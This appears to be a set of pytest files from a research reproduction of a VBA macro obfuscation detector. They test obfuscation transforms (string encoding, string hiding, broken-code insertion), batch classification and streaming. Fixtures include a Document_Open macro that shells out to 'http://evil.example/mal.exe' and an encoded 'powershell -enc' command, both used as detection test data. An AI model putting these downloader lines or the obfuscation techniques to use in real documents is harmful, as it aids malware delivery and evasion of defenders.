        assert 0 < survivors < 4

    def test_invalid_fraction_rejected(self):
        with pytest.raises(ValueError):
            RandomRenamer(rename_fraction=1.5)

    def test_rename_is_case_insensitive(self):
        out = rename_identifiers("Sub Foo()\n    FOO = 1\nEnd Sub\n", {"foo": "bar"})
        assert "Foo" not in out and "FOO" not in out
        assert out.count("bar") == 2

    def test_no_declarations_is_identity(self):
        source = "x = doc.Value\n"
        assert obfuscate(RandomRenamer(), source) == source


class TestStringSplitter:
    def test_long_strings_are_split(self):
        out = obfuscate(StringSplitter(min_length=4, hoist_const_probability=0.0), GREETING_MODULE)
        assert '"Hello, "' not in out
        assert "&" in out or "+" in out

    def test_short_strings_left_alone(self):
        source = 'Sub T()\n    x = "ab"\nEnd Sub\n'
        out = obfuscate(StringSplitter(min_length=4), source)
        assert '"ab"' in out

    def test_semantics_preserved(self):
        out = obfuscate(StringSplitter(), GREETING_MODULE)
        assert run_function(out, "MakeGreeting", "Bob") == run_function(
            GREETING_MODULE, "MakeGreeting", "Bob"
        )

    def test_const_hoisting_still_preserves_semantics(self):
        splitter = StringSplitter(hoist_const_probability=1.0, chunk_min=1, chunk_max=2)
        out = obfuscate(splitter, URL_MODULE)
        assert "Public Const" in out
        assert run_function(out, "BuildTarget") == run_function(URL_MODULE, "BuildTarget")

    def test_invalid_chunk_bounds(self):
        with pytest.raises(ValueError):
            StringSplitter(chunk_min=3, chunk_max=2)
        with pytest.raises(ValueError):
            StringSplitter(chunk_min=0, chunk_max=2)

    @settings(max_examples=25, deadline=None)
    @given(
        value=st.text(
            alphabet=st.characters(min_codepoint=32, max_codepoint=126, exclude_characters='"'),
            min_size=4,
            max_size=60,
        ),
        seed=st.integers(min_value=0, max_value=2**31),
    )
    def test_any_string_round_trips(self, value, seed):
        source = f'Function F() As String\n    F = "{value}"\nEnd Function\n'
        out = StringSplitter(hoist_const_probability=0.3).apply(source, make_context(seed))
        assert run_function(out, "F") == value

    def test_dummy_string_inserter_adds_unused_strings(self):
        out = obfuscate(DummyStringInserter(), GREETING_MODULE)
        before = len(analyze(GREETING_MODULE).string_literals)
        after = len(analyze(out).string_literals)
        assert after > before
        assert run_function(out, "MakeGreeting", "x") == run_function(
            GREETING_MODULE, "MakeGreeting", "x"
        )


class TestStringEncoder:
    @pytest.mark.parametrize("strategy", STRATEGIES)
    def test_each_strategy_round_trips(self, strategy):
        encoder = StringEncoder(strategies=(strategy,))
        out = obfuscate(encoder, URL_MODULE)
        assert run_function(out, "BuildTarget") == run_function(URL_MODULE, "BuildTarget")

    @pytest.mark.parametrize("strategy", STRATEGIES)
    def test_plaintext_literal_disappears(self, strategy):
        encoder = StringEncoder(strategies=(strategy,))
        out = obfuscate(encoder, URL_MODULE)
        # The original literal never survives verbatim; strategies other than
        # the single-character Replace() marker erase the keyword entirely.
        assert '"http://example.com/payload.exe"' not in out
        if strategy != "replace_marker":
            assert "payload.exe" not in out

    def test_mixed_strategies(self):
        encoder = StringEncoder(strategies=STRATEGIES)
        for seed in range(5):
            out = encoder.apply(URL_MODULE, make_context(seed))
            assert run_function(out, "BuildTarget") == run_function(
                URL_MODULE, "BuildTarget"
            )

    def test_unknown_strategy_rejected(self):
        with pytest.raises(ValueError):
            StringEncoder(strategies=("rot13",))
        with pytest.raises(ValueError):
            StringEncoder(strategies=())

    def test_helper_functions_are_deduplicated(self):
        source = (
            "Function F() As String\n"
            '    F = "aaaaaaaa" & "bbbbbbbb" & "cccccccc"\n'
            "End Function\n"
        )
        out = obfuscate(StringEncoder(strategies=("base64",)), source)
        # One decoder serves all three literals.
        module = parse_module(out)
        assert len(module.procedures) == 2  # F + one decoder

    @settings(max_examples=30, deadline=None)
    @given(
        value=st.text(
            alphabet=st.characters(min_codepoint=32, max_codepoint=255, exclude_characters='"'),
            min_size=4,
            max_size=50,
        ),
        seed=st.integers(min_value=0, max_value=2**31),
    )
    def test_any_byte_range_string_round_trips(self, value, seed):
        escaped = value.replace('"', '""')
        source = f'Function F() As String\n    F = "{escaped}"\nEnd Function\n'
        out = StringEncoder().apply(source, make_context(seed))
        assert run_function(out, "F") == value


class TestLogicObfuscation:
    def test_dummy_code_grows_the_module(self):
        out = obfuscate(DummyCodeInserter(blocks_min=2, blocks_max=2), GREETING_MODULE)
        assert len(out) > len(GREETING_MODULE)
        assert run_function(out, "MakeGreeting", "x") == run_function(
            GREETING_MODULE, "MakeGreeting", "x"
        )

    def test_junk_procedures_are_parseable_and_runnable(self):
        for seed in range(20):
            junk = generate_junk_procedure(make_context(seed))
            module = parse_module(junk)
            assert len(module.procedures) == 1
            interp = Interpreter(module, max_steps=100_000)
            interp.call(next(iter(module.procedures.values())).name)

    def test_size_padder_reaches_target(self):
        padder = SizePadder(target_length=5000)
        out = obfuscate(padder, GREETING_MODULE)
        assert len(out) >= 5000

    def test_size_padder_clusters_lengths(self):
        """Variants padded to one target land within a narrow band (Fig. 5b)."""
        lengths = []
        for seed in range(8):
            out = SizePadder(target_length=3000).apply(
                GREETING_MODULE, make_context(seed)
            )
            lengths.append(len(out))
        spread = max(lengths) - min(lengths)
        assert spread < 800  # all cluster near the 3000-char target

    def test_size_padder_noop_when_already_long(self):
        padder = SizePadder(target_length=10)
        out = obfuscate(padder, GREETING_MODULE)
        assert out == GREETING_MODULE

    def test_size_padder_rejects_negative_target(self):
        with pytest.raises(ValueError):
            SizePadder(target_length=-1)

    def test_reorderer_keeps_all_procedures(self):
        source = (
            "Sub Alpha()\nEnd Sub\n\n"
            "Sub Beta()\nEnd Sub\n\n"
            "Sub Gamma()\nEnd Sub\n"
        )
        out = obfuscate(ProcedureReorderer(), source, seed=3)
        module = parse_module(out)
        assert set(module.procedures) == {"alpha", "beta", "gamma"}

    def test_reorderer_actually_reorders(self):
        source = "".join(f"Sub P{i}()\nEnd Sub\n\n" for i in range(6))
        rng = random.Random(0)
        reordered_any = False
        for seed in range(10):
            out = ProcedureReorderer().apply(source, make_context(seed))
            order = [line for line in out.splitlines() if line.startswith("Sub")]
            if order != [f"Sub P{i}()" for i in range(6)]:
                reordered_any = True
                break
        assert reordered_any
        del rng

    def test_single_procedure_not_reordered(self):
        out = obfuscate(ProcedureReorderer(), GREETING_MODULE)
        assert out == GREETING_MODULE
