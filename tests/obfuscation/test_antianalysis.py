"""Tests for the §VI.B anti-analysis transforms and pipeline composition."""

import pytest

from repro.obfuscation.antianalysis import (
    BrokenCodeInserter,
    FlowChanger,
    StringHider,
)
from repro.obfuscation.base import make_context
from repro.obfuscation.pipeline import (
    ObfuscationPipeline,
    build_profile,
    default_pipeline,
)
from repro.obfuscation.rename import RandomRenamer
from repro.vba.interpreter import run_function
from repro.vba.parser import VBAParseError, parse_module

PAYLOAD_MODULE = (
    "Function Payload() As String\n"
    "    Dim cmd As String\n"
    '    cmd = "powershell -enc SQBFAFgA"\n'
    '    Payload = cmd & " now"\n'
    "End Function\n"
)

DOWNLOADER_SUB = (
    "Sub Document_Open()\n"
    "    Dim target As String\n"
    '    target = "http://evil.example/mal.exe"\n'
    "    Shell target, 0\n"
    "End Sub\n"
)


class TestStringHider:
    def test_hidden_strings_move_to_document_variables(self):
        context = make_context(11)
        out = StringHider(hide_probability=1.0, min_length=4).apply(
            PAYLOAD_MODULE, context
        )
        assert "powershell -enc SQBFAFgA" not in out
        assert "powershell -enc SQBFAFgA" in context.document_variables.values()

    def test_runtime_lookup_recovers_hidden_string(self):
        context = make_context(11)
        hider = StringHider(hide_probability=1.0, min_length=4)
        out = hider.apply(PAYLOAD_MODULE, context)
        # document_variables is keyed by storage expression — exactly what
        # the interpreter's host_values lookup expects.
        host = dict(context.document_variables)
        assert run_function(out, "Payload", host_values=host) == run_function(
            PAYLOAD_MODULE, "Payload"
        )

    def test_short_strings_not_hidden(self):
        source = 'Sub T()\n    x = "ab"\nEnd Sub\n'
        context = make_context(1)
        out = StringHider(hide_probability=1.0, min_length=6).apply(source, context)
        assert '"ab"' in out
        assert not context.document_variables


class TestBrokenCodeInserter:
    def test_broken_code_is_unreachable_but_breaks_the_parser(self):
        context = make_context(5)
        out = BrokenCodeInserter().apply(DOWNLOADER_SUB, context)
        assert "Exit Sub" in out
        # The payload statements are intact and precede the Exit Sub.
        assert out.index("Shell target") < out.index("Exit Sub")
        # A strict parser chokes on the dangling broken objects.
        with pytest.raises(VBAParseError):
            parse_module(out)

    def test_no_sub_means_no_change(self):
        source = "Function F()\n    F = 1\nEnd Function\n"
        out = BrokenCodeInserter().apply(source, make_context(5))
        assert out == source


class TestFlowChanger:
    def test_body_is_wrapped_in_guard(self):
        out = FlowChanger().apply(DOWNLOADER_SUB, make_context(5))
        assert "If " in out
        assert "End If" in out
        assert "Shell target" in out
        # Still one Sub with balanced structure.
        assert out.count("Sub Document_Open") == 1


class TestPipelines:
    def test_default_pipeline_applies_all_four_categories(self):
        pipeline = default_pipeline()
        assert set(pipeline.categories) == {"O1", "O2", "O3", "O4"}

    def test_default_pipeline_preserves_semantics(self):
        result = default_pipeline().run(PAYLOAD_MODULE, seed=42)
        # The function name was renamed: find it by elimination.
        module = parse_module(result.source)
        expected = run_function(PAYLOAD_MODULE, "Payload")
        from repro.vba.interpreter import Interpreter

        interp = Interpreter.from_source(result.source)
        outputs = []
        for name, proc in interp.module.procedures.items():
            if proc.kind == "function" and not proc.params:
                try:
                    outputs.append(interp.call(name))
                except Exception:
                    continue
        assert expected in outputs
        del module

    def test_pipeline_is_deterministic_per_seed(self):
        pipeline = default_pipeline()
        first = pipeline.run(PAYLOAD_MODULE, seed=9)
        second = pipeline.run(PAYLOAD_MODULE, seed=9)
        assert first.source == second.source

    def test_different_seeds_differ(self):
        pipeline = default_pipeline()
        assert (
            pipeline.run(PAYLOAD_MODULE, seed=1).source
            != pipeline.run(PAYLOAD_MODULE, seed=2).source
        )

    def test_empty_pipeline_rejected(self):
        with pytest.raises(ValueError):
            ObfuscationPipeline([])

    def test_build_profile_variants(self):
        import random

        rng = random.Random(0)
        for _ in range(10):
            pipeline = build_profile(rng, use_anti=True, target_length=2000)
            result = pipeline.run(PAYLOAD_MODULE, seed=3)
            assert result.source  # non-empty output
            assert result.applied == pipeline.categories

    def test_profile_with_target_length_pads(self):
        import random

        pipeline = build_profile(
            random.Random(1),
            use_rename=False,
            use_split=False,
            use_encode=False,
            use_anti=False,
            target_length=4000,
        )
        result = pipeline.run(PAYLOAD_MODULE, seed=5)
        assert len(result.source) >= 4000

    def test_single_category_pipeline(self):
        pipeline = ObfuscationPipeline([RandomRenamer()])
        assert pipeline.categories == ("O1",)
