"""Batched ``ClassifyStage`` — bit-exact parity with per-row scoring.

The batch kernel's contract: a macro's score and verdict are *exactly*
the same (``np.array_equal``, not ``allclose``) whether it is scored
alone through :meth:`ClassifyStage.process_macro` (the bare-source
path), inside a document flush, or split across multiple flushes by a
tiny ``batch_size``.  The edges ride along: macros without a feature row
are skipped identically, degraded documents still settle, and a score
landing exactly on the threshold keeps the ``>=`` verdict.
"""

import random

import numpy as np
import pytest

from repro import ObfuscationDetector
from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine, ClassifyStage
from repro.engine.records import DocumentRecord, MacroRecord
from repro.obfuscation.pipeline import default_pipeline
from repro.pipeline.classifiers import CLASSIFIER_ORDER, proba_from_matrix


@pytest.fixture(scope="module")
def corpus():
    """Benign / malicious / obfuscated sources — the fleet mix."""
    rng = random.Random(23)
    benign = [
        generate_benign_module(rng, target_length=rng.randint(300, 2000))
        for _ in range(6)
    ]
    malicious = [generate_malicious_macro(rng, "word") for _ in range(3)]
    pipeline = default_pipeline()
    obfuscated = [
        pipeline.run(source, seed=index).source
        for index, source in enumerate(malicious)
    ]
    return benign, malicious, obfuscated


@pytest.fixture(scope="module")
def detectors(corpus):
    benign, malicious, obfuscated = corpus
    sources = benign + malicious + obfuscated
    labels = [0] * len(benign) + [0] * len(malicious) + [1] * len(obfuscated)
    return {
        name: ObfuscationDetector(name).fit(sources, labels)
        for name in CLASSIFIER_ORDER
    }


class TestBatchParity:
    @pytest.mark.parametrize("name", CLASSIFIER_ORDER)
    def test_document_batch_matches_bare_source(self, corpus, detectors, name):
        """Every classifier: document flush == batch-of-1, bitwise."""
        benign, malicious, obfuscated = corpus
        sources = benign + malicious + obfuscated
        detector = detectors[name]
        engine = AnalysisEngine.for_scan(detector)
        document = build_document_bytes(sources, "docm")
        [record] = engine.run_batch([document])
        assert record.ok
        assert len(record.macros) == len(sources)

        solo_engine = AnalysisEngine.for_scan(detector)
        batched = np.array([macro.score for macro in record.macros])
        solo = np.array(
            [solo_engine.run_source(source).score for source in sources]
        )
        assert np.array_equal(batched, solo)
        for macro, source in zip(record.macros, sources):
            assert macro.verdict == solo_engine.run_source(source).verdict

    @pytest.mark.parametrize("name", CLASSIFIER_ORDER)
    def test_batch_matches_direct_matrix_call(self, corpus, detectors, name):
        """Engine scores equal one raw proba_from_matrix over all rows."""
        benign, malicious, obfuscated = corpus
        sources = benign + malicious + obfuscated
        detector = detectors[name]
        engine = AnalysisEngine.for_scan(detector)
        records = engine.run_batch(
            [build_document_bytes([source], "docm") for source in sources]
        )
        rows = np.vstack([r.macros[0].features["V"] for r in records])
        direct = np.asarray(proba_from_matrix(detector, rows))[:, 1]
        engine_scores = np.array([r.macros[0].score for r in records])
        assert np.array_equal(engine_scores, direct)

    def test_tiny_batch_size_forces_multiple_flushes(self, corpus, detectors):
        """batch_size=2 over 12 macros: flush boundaries change nothing."""
        benign, malicious, obfuscated = corpus
        sources = benign + malicious + obfuscated
        detector = detectors["MLP"]
        big = AnalysisEngine.for_scan(detector)
        small = AnalysisEngine.for_scan(detector)
        for stage in small.stages:
            if isinstance(stage, ClassifyStage):
                stage.batch_size = 2
        document = build_document_bytes(sources, "docm")
        [whole] = big.run_batch([document])
        [chunked] = small.run_batch([document])
        assert np.array_equal(
            np.array([m.score for m in whole.macros]),
            np.array([m.score for m in chunked.macros]),
        )


class _HalfDetector:
    """Scores every row at exactly the default threshold."""

    def proba_from_matrix(self, X):
        X = np.asarray(X)
        return np.column_stack(
            [np.full(X.shape[0], 0.5), np.full(X.shape[0], 0.5)]
        )


class TestEdges:
    def _macro(self, name, row):
        macro = MacroRecord(module_name=name, source=f"Sub {name}()\nEnd Sub")
        if row is not None:
            macro.features["V"] = np.asarray(row, dtype=np.float64)
        return macro

    def test_missing_feature_rows_skipped_identically(self, detectors):
        """Macros without a row stay unscored on both paths."""
        detector = detectors["RF"]
        stage = ClassifyStage(detector)
        rng = np.random.default_rng(5)
        rows = [
            rng.uniform(size=15) if index % 3 else None for index in range(9)
        ]

        batched = DocumentRecord(source_id="batch", sha256="x")
        batched.macros = [
            self._macro(f"m{index}", row) for index, row in enumerate(rows)
        ]
        stage.process(batched)

        solo = [self._macro(f"m{index}", row) for index, row in enumerate(rows)]
        for macro in solo:
            stage.process_macro(macro)

        for row, via_batch, via_solo in zip(rows, batched.macros, solo):
            if row is None:
                assert via_batch.score is None and via_solo.score is None
                assert via_batch.verdict is None and via_solo.verdict is None
            else:
                assert via_batch.score == via_solo.score
                assert via_batch.verdict == via_solo.verdict

    def test_degraded_document_settles(self, detectors):
        """Garbage bytes: an error record comes back, never an exception."""
        engine = AnalysisEngine.for_scan(detectors["RF"])
        [record] = engine.run_batch([b"\x00\x01 not a document"])
        assert not record.ok
        assert record.macros == []

    def test_threshold_boundary_is_obfuscated(self):
        """score == threshold verdicts 'obfuscated' on both paths."""
        stage = ClassifyStage(_HalfDetector(), threshold=0.5)
        row = np.ones(15)

        document = DocumentRecord(source_id="doc", sha256="y")
        document.macros = [self._macro("a", row), self._macro("b", row)]
        stage.process(document)
        assert [m.verdict for m in document.macros] == ["obfuscated"] * 2
        assert [m.score for m in document.macros] == [0.5] * 2

        solo = self._macro("c", row)
        stage.process_macro(solo)
        assert solo.verdict == "obfuscated" and solo.score == 0.5

        above = ClassifyStage(_HalfDetector(), threshold=0.5000001)
        solo = self._macro("d", row)
        above.process_macro(solo)
        assert solo.verdict == "normal"
