"""The asyncio face of the streaming engine (``astream``).

``astream`` must be the same machine as ``stream`` — same ordering
contracts, same admission window, same per-task blame and quarantine —
just driven from an event loop.  These tests hold it to that, plus the
serving-grade extras that ride on it:

* **chaos under backpressure** — the hang + oversize + worker-kill mix
  at ``window=4`` keeps N-in/N-out, never exceeds the window, and the
  surviving worker keeps its process;
* **deadline propagation** — a request deadline shorter than the stage
  timeout wins (degraded record, fast), and expired deadlines release
  their admission slots (100 pre-expired requests leak no capacity);
* **close() discipline** — double-close and concurrent close are safe.
"""

import asyncio
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from repro.engine import AnalysisEngine
from repro.engine.records import sha256_hex
from repro.engine.stream import deadline_limited
from repro.obs import MetricsRegistry
from repro.resilience import Fault, FaultPlan, RetryPolicy
from repro.resilience import recovery as recovery_module


@pytest.fixture()
def recorded_sleeps(monkeypatch):
    delays = []
    monkeypatch.setattr(recovery_module, "_sleep", delays.append)
    return delays


def tiny_docs(count):
    """Unique non-container inputs: cheap worker tasks with own digests."""
    return [(f"doc_{i:05d}", b"not a document %d" % i) for i in range(count)]


def run_async(coro, timeout_s=120.0):
    """Drive one coroutine to completion; fail loudly instead of hanging."""
    async def guarded():
        return await asyncio.wait_for(coro, timeout_s)

    return asyncio.run(guarded())


async def collect(aiterator):
    return [item async for item in aiterator]


class TestAsyncOrderingContract:
    def test_ordered_astream_matches_input_order(self, document_factory):
        pairs = document_factory(8)

        async def scenario():
            engine = AnalysisEngine.for_extraction()
            try:
                records = await collect(
                    engine.astream(pairs, jobs=2, window=4, ordered=True)
                )
            finally:
                engine.close()
            return records

        records = run_async(scenario())
        assert [r.source_id for r in records] == [sid for sid, _ in pairs]
        assert all(r.quarantine is None for r in records)

    def test_completion_order_with_async_feed_and_coalescing(
        self, document_factory
    ):
        # One unique document duplicated 7 times through an *async* feed:
        # every input yields a record and the duplicates coalesce.
        sid, data = document_factory(1)[0]
        pairs = [(f"{sid}_{i}", data) for i in range(8)]

        async def feed():
            for item in pairs:
                await asyncio.sleep(0)  # a live (non-list) async source
                yield item

        async def scenario():
            engine = AnalysisEngine.for_extraction()
            try:
                records = await collect(
                    engine.astream(feed(), jobs=2, ordered=False)
                )
            finally:
                engine.close()
            return records, engine.cache_hits

        records, cache_hits = run_async(scenario())
        assert sorted(r.source_id for r in records) == sorted(
            sid for sid, _ in pairs
        )
        assert cache_hits >= len(pairs) - 1  # coalesced + cached copies

    def test_serial_astream_matches_run(self, document_factory):
        pairs = document_factory(3)

        async def scenario():
            engine = AnalysisEngine.for_extraction()
            return await collect(engine.astream(pairs, jobs=1))

        records = run_async(scenario())
        assert [r.source_id for r in records] == [sid for sid, _ in pairs]


class TestAsyncChaosUnderBackpressure:
    def test_hang_oversize_and_worker_kill_at_window_4(
        self, document_factory, recorded_sleeps
    ):
        """The stream chaos drill, on the async gateway path: a hanging
        document, an oversized one, and a worker-killing one in the same
        ``window=4`` feed must keep N-in/N-out and the window bound, and
        the surviving worker keeps its process."""
        pairs = document_factory(12)
        hang_id, oversize_id, poison_id = pairs[3][0], pairs[7][0], pairs[9][0]
        plan = FaultPlan(
            faults=(
                Fault("hang", hang_id),
                Fault("oversize", oversize_id),
                Fault("exit", poison_id),
            ),
            hang_s=0.2,
            oversize_bytes=256 * 1024,  # also exercises the shm transport
        )
        engine = AnalysisEngine.for_extraction(chaos=plan)
        engine.retry = RetryPolicy(max_attempts=1)  # one kill, one restart

        async def scenario():
            pool = engine._stream_pool(2, 4)
            await asyncio.to_thread(pool.warm_up, wait_ready=True)
            before = pool.worker_pids()
            assert all(pid is not None for pid in before)
            records = await collect(
                engine.astream(pairs, jobs=2, window=4, ordered=True)
            )
            return pool, before, records

        pool, before, records = run_async(scenario())
        try:
            assert [r.source_id for r in records] == [sid for sid, _ in pairs]
            assert pool.peak_in_flight <= 4
            quarantined = [r for r in records if r.quarantine is not None]
            assert [r.source_id for r in quarantined] == [poison_id]
            oversized = next(r for r in records if r.source_id == oversize_id)
            assert any(len(m.source) >= 256 * 1024 for m in oversized.macros)
            hung = next(r for r in records if r.source_id == hang_id)
            assert hung.quarantine is None
            assert pool.worker_restarts == 1
            after = pool.worker_pids()
            survivors = [pid for pid in after if pid in before]
            assert len(survivors) == len(before) - 1
        finally:
            engine.close()

    def test_retry_backoff_still_goes_through_recovery_sleep(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(6)
        poison_id = pairs[2][0]
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"exit:{poison_id}")
        )
        engine.retry = RetryPolicy(max_attempts=2, backoff_base_s=0.05)

        async def scenario():
            return await collect(
                engine.astream(pairs, jobs=2, ordered=False)
            )

        records = run_async(scenario())
        try:
            assert len(records) == len(pairs)
            quarantined = [r for r in records if r.quarantine is not None]
            assert [r.source_id for r in quarantined] == [poison_id]
            assert quarantined[0].quarantine["attempts"] == 2
            # The async path must honor the same (monkeypatchable) backoff
            # hook as the sync path: one retry → one recorded sleep.
            assert len(recorded_sleeps) == 1
        finally:
            engine.close()


class TestDeadlinePropagation:
    def test_request_deadline_beats_stage_timeout(self, document_factory):
        """A request deadline shorter than ``--stage-timeout`` must win:
        the hanging stage is abandoned at the deadline, the record comes
        back degraded with a ``deadline`` marker, well before either the
        hang or the stage watchdog would have fired."""
        pairs = document_factory(4)
        hang_id = pairs[1][0]
        plan = FaultPlan(faults=(Fault("hang", hang_id),), hang_s=20.0)
        from repro.resilience import Budget

        engine = AnalysisEngine.for_extraction(chaos=plan)
        engine.budget = Budget(
            wall_clock_s=60.0,
            stage_timeout_s=30.0,  # the deadline must undercut this
            max_input_bytes=None,
            max_macro_count=None,
            max_output_bytes=None,
        )

        async def scenario():
            started = time.monotonic()
            records = await collect(
                engine.astream(pairs, jobs=2, ordered=True, deadline_s=1.0)
            )
            return records, time.monotonic() - started

        records, elapsed = run_async(scenario())
        try:
            assert len(records) == len(pairs)
            assert elapsed < 10.0  # nowhere near hang_s or stage_timeout_s
            hung = next(r for r in records if r.source_id == hang_id)
            assert hung.degraded
            assert deadline_limited(hung)
            for record in records:
                if record.source_id != hang_id:
                    assert not record.degraded
        finally:
            engine.close()

    def test_expired_deadlines_release_admission_slots(self):
        """100 requests whose deadlines already passed must all yield
        typed deadline records without dispatching — and must leak zero
        window capacity: a normal stream through the same pool afterwards
        completes (a leak would deadlock the 4-slot window)."""
        expired = tiny_docs(100)
        fresh = tiny_docs(8)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(metrics=registry)

        async def scenario():
            pool = engine._stream_pool(2, 4)
            past = time.monotonic() - 1.0

            async def expired_entries():
                for sid, data in expired:
                    yield ("task", sid, sid, data, sha256_hex(data), past)

            first = [
                r async for r in pool.astream(expired_entries(), ordered=False)
            ]

            async def fresh_entries():
                for sid, data in fresh:
                    yield ("task", f"fresh_{sid}", sid, data, sha256_hex(data))

            second = [
                r async for r in pool.astream(fresh_entries(), ordered=True)
            ]
            return pool, first, second

        pool, first, second = run_async(scenario(), timeout_s=60.0)
        try:
            assert len(first) == len(expired)
            for result in first:
                assert not result.computed
                assert result.record.degraded
                assert deadline_limited(result.record)
            # None of the expired tasks reached a worker.
            assert pool.tasks_completed == len(fresh)
            assert len(second) == len(fresh)
            counters = registry.to_dict()["counters"]
            assert counters["stream.deadline_expired"] == len(expired)
        finally:
            engine.close()

    def test_deadline_expired_records_never_poison_the_cache(self):
        sid, data = tiny_docs(1)[0]
        engine = AnalysisEngine.for_extraction()

        async def scenario():
            pool = engine._stream_pool(2, None)
            past = time.monotonic() - 1.0

            async def entries():
                yield ("task", 0, sid, data, sha256_hex(data), past)

            results = [r async for r in pool.astream(entries(), ordered=True)]
            return results

        results = run_async(scenario())
        try:
            assert deadline_limited(results[0].record)
            # The degraded deadline record must not be served from cache
            # to a later request with a live deadline.
            engine._settle_stream_result(results[0])
            assert engine._cache_get(sha256_hex(data)) is None
        finally:
            engine.close()


class TestCloseDiscipline:
    def test_double_close_is_idempotent(self, document_factory):
        pairs = document_factory(4)
        engine = AnalysisEngine.for_extraction()
        engine.run_batch(pairs, jobs=2)
        engine.close()
        assert engine._pool is None
        engine.close()  # second close: no-op, no error
        assert engine._pool is None

    def test_concurrent_close_races_are_safe(self, document_factory):
        pairs = document_factory(4)
        engine = AnalysisEngine.for_extraction()
        engine.run_batch(pairs, jobs=2)
        pool = engine._pool
        barrier = threading.Barrier(8)
        errors = []

        def slam():
            barrier.wait()
            try:
                engine.close()
            except Exception as error:  # noqa: BLE001 - the assertion
                errors.append(error)

        with ThreadPoolExecutor(max_workers=8) as executor:
            list(executor.map(lambda _: slam(), range(8)))
        assert errors == []
        assert engine._pool is None
        assert pool._closed

    def test_pool_close_race_is_single_teardown(self, document_factory):
        pairs = document_factory(3)
        engine = AnalysisEngine.for_extraction()
        engine.run_batch(pairs, jobs=2)
        pool = engine._pool
        barrier = threading.Barrier(6)
        errors = []

        def slam():
            barrier.wait()
            try:
                pool.close()
            except Exception as error:  # noqa: BLE001
                errors.append(error)

        threads = [threading.Thread(target=slam) for _ in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert errors == []
        assert pool._closed
        engine.close()

    def test_astream_on_closed_pool_raises(self, document_factory):
        pairs = document_factory(2)
        engine = AnalysisEngine.for_extraction()
        pool = engine._stream_pool(2, None)
        pool.close()

        async def scenario():
            async def entries():
                for sid, data in pairs:
                    yield ("task", sid, sid, data, sha256_hex(data))

            async for _ in pool.astream(entries()):
                pass

        with pytest.raises(RuntimeError, match="closed"):
            run_async(scenario())
        engine.close()
