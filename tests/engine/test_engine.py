"""Tests for the staged AnalysisEngine.

The load-bearing guarantees:

* **parity** — feature matrices and verdicts out of ``run_batch`` are
  bitwise-identical to the direct ``extract_both`` + detector path, for
  ``jobs=1`` and ``jobs=2``;
* **totality** — bad paths and garbage bytes yield error records, never
  exceptions;
* **caching** — duplicate content is analyzed once.
"""

import random

import numpy as np
import pytest

from repro import ObfuscationDetector
from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine
from repro.features.matrix import extract_both
from repro.obfuscation.pipeline import default_pipeline


@pytest.fixture(scope="module")
def macro_sources():
    rng = random.Random(11)
    benign = [
        generate_benign_module(rng, target_length=rng.randint(300, 2500))
        for _ in range(6)
    ]
    pipeline = default_pipeline()
    obfuscated = [
        pipeline.run(generate_malicious_macro(rng, "word"), seed=index).source
        for index in range(3)
    ]
    return benign, obfuscated


@pytest.fixture(scope="module")
def documents(macro_sources):
    benign, obfuscated = macro_sources
    return [build_document_bytes([source], "docm") for source in benign + obfuscated]


@pytest.fixture(scope="module")
def detector(macro_sources):
    benign, obfuscated = macro_sources
    return ObfuscationDetector("RF").fit(
        benign + obfuscated, [0] * len(benign) + [1] * len(obfuscated)
    )


class TestParity:
    @pytest.mark.parametrize("jobs", [1, 2])
    def test_run_batch_matches_direct_path(self, documents, detector, jobs):
        engine = AnalysisEngine.for_scan(detector, feature_sets=("V", "J"))
        records = engine.run_batch(documents, jobs=jobs)
        assert len(records) == len(documents)
        assert all(record.ok for record in records)

        sources = [record.macros[0].source for record in records]
        v_direct, j_direct = extract_both(sources)
        v_engine = np.vstack([r.macros[0].features["V"] for r in records])
        j_engine = np.vstack([r.macros[0].features["J"] for r in records])
        assert np.array_equal(v_direct, v_engine)
        assert np.array_equal(j_direct, j_engine)

        for record, source in zip(records, sources):
            direct_proba = float(detector.predict_proba([source])[0][1])
            assert record.macros[0].score == direct_proba
            assert record.macros[0].verdict == (
                "obfuscated" if direct_proba >= 0.5 else "normal"
            )

    def test_jobs_do_not_change_results(self, documents, detector):
        serial = AnalysisEngine.for_scan(detector).run_batch(documents, jobs=1)
        parallel = AnalysisEngine.for_scan(detector).run_batch(documents, jobs=2)
        for a, b in zip(serial, parallel):
            assert a.sha256 == b.sha256
            assert [m.score for m in a.macros] == [m.score for m in b.macros]
            assert [m.verdict for m in a.macros] == [m.verdict for m in b.macros]

    @pytest.mark.parametrize("jobs", [1, 2])
    def test_feature_matrices_match_extract_both(self, macro_sources, jobs):
        benign, obfuscated = macro_sources
        sources = benign + obfuscated
        engine = AnalysisEngine.for_features(("V", "J"))
        matrices = engine.feature_matrices(sources, jobs=jobs)
        v_direct, j_direct = extract_both(sources)
        assert np.array_equal(matrices["V"], v_direct)
        assert np.array_equal(matrices["J"], j_direct)

    def test_feature_matrices_empty(self):
        matrices = AnalysisEngine.for_features(("V",)).feature_matrices([])
        assert matrices["V"].shape == (0, 15)


class TestTotality:
    def test_missing_file_is_error_record(self):
        record = AnalysisEngine.for_extraction().run("/nonexistent/ghost.docm")
        assert not record.ok
        assert "ghost.docm" in record.error

    def test_garbage_bytes_is_error_record(self):
        for blob in (b"", b"PK\x07\x08", b"\x00" * 64, b"hello world"):
            record = AnalysisEngine.for_extraction().run(blob)
            assert not record.ok
            assert record.error is not None

    def test_batch_mixes_good_and_bad(self, documents):
        engine = AnalysisEngine.for_extraction()
        inputs = [documents[0], b"garbage", "/nonexistent/x.docm", documents[1]]
        records = engine.run_batch(inputs, jobs=1)
        assert [record.ok for record in records] == [True, False, False, True]

    def test_records_are_json_serializable(self, documents, detector):
        import json

        engine = AnalysisEngine.for_scan(detector)
        for record in engine.run_batch([documents[0], b"junk"]):
            parsed = json.loads(json.dumps(record.to_dict()))
            assert parsed["path"]
            assert isinstance(parsed["ok"], bool)


class TestCache:
    def test_duplicate_sources_hit_cache(self, documents):
        engine = AnalysisEngine.for_extraction()
        records = engine.run_batch([documents[0], documents[0], documents[1]])
        info = engine.cache_info()
        assert info["hits"] == 1
